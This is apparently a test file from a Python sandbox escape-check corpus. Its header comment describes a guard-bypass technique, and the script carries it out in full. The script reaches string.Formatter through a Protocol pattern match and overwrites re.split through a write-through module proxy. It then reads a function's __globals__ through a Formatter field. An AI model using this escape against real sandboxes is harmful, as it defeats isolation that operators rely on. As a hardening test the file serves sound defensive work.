# technique: the runtime's string.Formatter.get_field guard splits the field name with re.split, looked up on the real re module at each call; assigning re.split on the module view writes through to the real module (_View.__setattr__), so a split that returns nothing lets real get_field read '{0.__globals__}'; string.Formatter itself, a refused attribute for the validator, is read as a dataclass field of the Protocol of 140
# source: sandbox design flaw class: guards that call mutable module attributes at run time + write-through module proxies; string.Formatter.format_field override

# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

import dataclasses, json, re, string, typing

T = typing.TypeVar('T')


@dataclasses.dataclass
class Generic(typing.Generic[T]):
    Formatter: object
    _is_protocol = True


@typing.runtime_checkable
class Anything(Generic, typing.Protocol):
    pass


def formatter_class():
    match string:
        case Anything(F):
            return F
    raise LookupError('no match')

got = []


def no_split(pattern, s, *a, **k):
    return [s]


def via():
    class Grab(formatter_class()):
        def format_field(self, value, spec):
            got.append(value)
            return ''
    re.split = no_split
    Grab().vformat('{0.' + dn('globals') + '}', (json.dumps,), {})
    return got[-1]

attempt('Formatter().vformat of a __globals__ field with re.split replaced', via)
